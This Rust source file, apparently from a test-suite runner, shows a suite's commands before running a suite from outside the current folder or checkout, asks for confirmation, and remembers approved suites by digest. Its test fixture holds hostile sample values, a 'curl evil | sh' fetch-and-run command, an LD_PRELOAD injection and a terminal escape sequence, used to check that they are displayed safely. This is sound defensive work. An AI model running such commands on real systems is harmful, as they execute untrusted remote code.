//! A suite file names commands, so a suite from elsewhere is shown before it is run for the first time.
//!
//! What stands in the current folder, or in the checkout around it, is as trusted as a Makefile there.
//! Anything else is remembered by the digest of its text once it has been run. On a terminal the user
//! is asked; where nobody can answer (a script, CI) the commands are shown in the log and the run goes
//! on, since whoever wrote the script has named the suite.

use crate::plan;
use crate::provenance::sha256_of_bytes;
use crate::report::console::one_line;
use crate::setup::Declared;
use crate::suite::{Argument, LoadedSuite};
use anyhow::{Context, Result, bail};
use std::fmt::Write as _;
use std::io::{BufRead, IsTerminal, Write as _};
use std::path::{Path, PathBuf};

/// Who says that a suite may be run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Named {
    /// The user's own command line.
    ByUser,
    /// A file in the output folder, which may itself come from elsewhere: only memory counts.
    ByJournal,
}

/// Shows what a suite from elsewhere executes, and asks if somebody can answer.
///
/// # Errors
/// If the user does not want it to be run.
pub fn check(loaded: &LoadedSuite, named: Named, yes: bool) -> Result<()> {
    let Some(file) = loaded.file() else { return Ok(()) };
    let file = file.canonicalize().unwrap_or(file);
    let mark = crate::state::folder("suites-run").map(|folder| folder.join(digest(loaded)));
    let known = mark.as_ref().is_some_and(|mark| mark.is_file());
    let at_home = named == Named::ByUser && is_at_home(&file);
    if !known && !at_home && !yes {
        eprint!("{}", shown(loaded, &file)?);
        if std::io::stdin().is_terminal() && std::io::stderr().is_terminal() {
            ask()?;
        } else {
            eprintln!("Nobody can be asked here: they are run. --yes says so without this list.");
        }
    }
    if let Some(mark) = mark.filter(|_| !known) {
        // Where it cannot be remembered it is shown again the next time.
        let parent = mark.parent().unwrap_or(Path::new("."));
        let _ = std::fs::create_dir_all(parent)
            .and_then(|()| std::fs::write(&mark, format!("{}\n", file.display())));
    }
    Ok(())
}

fn ask() -> Result<()> {
    eprint!("Run them? [y/N] ");
    std::io::stderr().flush()?;
    let mut answer = String::new();
    std::io::stdin().lock().read_line(&mut answer).context("cannot read the answer")?;
    if !matches!(answer.trim().to_ascii_lowercase().as_str(), "y" | "yes") {
        bail!("the suite was not run; `--dry-run` shows its exact commands, `--yes` runs it");
    }
    Ok(())
}

/// Text and place: relative programs are others in another folder.
fn digest(loaded: &LoadedSuite) -> String {
    sha256_of_bytes(format!("{}\n{}", loaded.root.display(), loaded.text).as_bytes())
}

/// In the current folder or in the checkout that it is in. A home directory or the root is no place
/// where everything is one's own.
fn is_at_home(file: &Path) -> bool {
    let Ok(current) = std::env::current_dir().and_then(|folder| folder.canonicalize()) else {
        return false;
    };
    let home = std::env::var_os("HOME").map(PathBuf::from).and_then(|it| it.canonicalize().ok());
    is_within(file, &current, home.as_deref())
}

fn is_within(file: &Path, current: &Path, home: Option<&Path>) -> bool {
    let too_wide = |folder: &Path| folder.parent().is_none() || Some(folder) == home;
    let checkout = current.ancestors().find(|folder| folder.join(".git").exists());
    let places = [Some(current), checkout].into_iter().flatten();
    places.filter(|folder| !too_wide(folder)).any(|folder| file.starts_with(folder))
}

/// The commands of a suite, a line each.
fn shown(loaded: &LoadedSuite, file: &Path) -> Result<String> {
    let mut text = String::new();
    let line = |text: &str| one_line(text).into_owned();
    let (file, root) = (file.display().to_string(), loaded.root.display().to_string());
    writeln!(text, "The suite {} is not from this folder and was never run.", line(&file))?;
    writeln!(text, "In {} it executes:", line(&root))?;
    for trainer in &loaded.suite.trainers {
        let program = plan::program(loaded, trainer).unwrap_or_default().display().to_string();
        let mut command = Vec::new();
        for argument in &trainer.command {
            match argument {
                Argument::Always(word) => command.push(word.clone()),
                Argument::IfKnown(words) => command.extend(words.iter().cloned()),
            }
        }
        let name = line(&trainer.name);
        if let Some(Declared::Own(setup)) = &trainer.setup {
            for lock in &setup.locks {
                writeln!(text, "  setup {name}: pip packages of {}", line(&format!("{lock:?}")))?;
            }
            for words in &setup.commands {
                writeln!(text, "  setup {name}: {}", line(&words.join(" ")))?;
            }
        }
        let environment = trainer.environment.iter().map(|(key, value)| format!("{key}={value}"));
        command.splice(0..0, environment);
        for (verb, words) in
            [("build", &trainer.build), ("probe", &trainer.probe), ("run", &command)]
        {
            if !words.is_empty() {
                let words: Vec<String> =
                    words.iter().map(|word| word.replace("{program}", &program)).collect();
                writeln!(text, "  {verb:<5} {name}: {}", line(&words.join(" ")))?;
            }
        }
    }
    Ok(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_in_this_folder_or_its_checkout_is_at_home_and_the_whole_home_is_not() {
        let home = tempfile::tempdir().unwrap();
        let home = home.path().canonicalize().unwrap();
        let (checkout, elsewhere) = (home.join("project"), home.join("downloads/suite.toml"));
        let deep = checkout.join("a/b");
        std::fs::create_dir_all(checkout.join(".git")).unwrap();
        std::fs::create_dir_all(&deep).unwrap();
        let within = |file: &Path, current: &Path| is_within(file, current, Some(&home));
        assert!(within(&checkout.join("suites/x.toml"), &deep));
        assert!(within(&deep.join("x.toml"), &deep));
        assert!(!within(&elsewhere, &deep));
        assert!(!within(&elsewhere, &home));
        assert!(!within(&elsewhere, Path::new("/")));
    }

    #[test]
    fn the_commands_are_shown_in_full_and_cannot_deceive_a_terminal() {
        let text = r#"
            name = "s"
            [[trainers]]
            name = "t\u001b[2Jx"
            program = "sh"
            build = ["make", "all"]
            command = ["{program}", "-c", "curl evil | sh", ["--seed", "{seed}"]]
            environment = { LD_PRELOAD = "x.so" }
            backends = ["cpu"]
            models.mlp.prefix = "t"
        "#;
        let loaded = LoadedSuite::of_text(text.into(), "/else/s.toml", "/else".into()).unwrap();
        let shown = shown(&loaded, Path::new("/else/s.toml")).unwrap();
        assert!(!shown.contains('\u{1b}'), "{shown:?}");
        for part in ["make all", "LD_PRELOAD=x.so sh -c curl evil | sh --seed {seed}", "In /else"] {
            assert!(shown.contains(part), "{shown}");
        }
    }
}
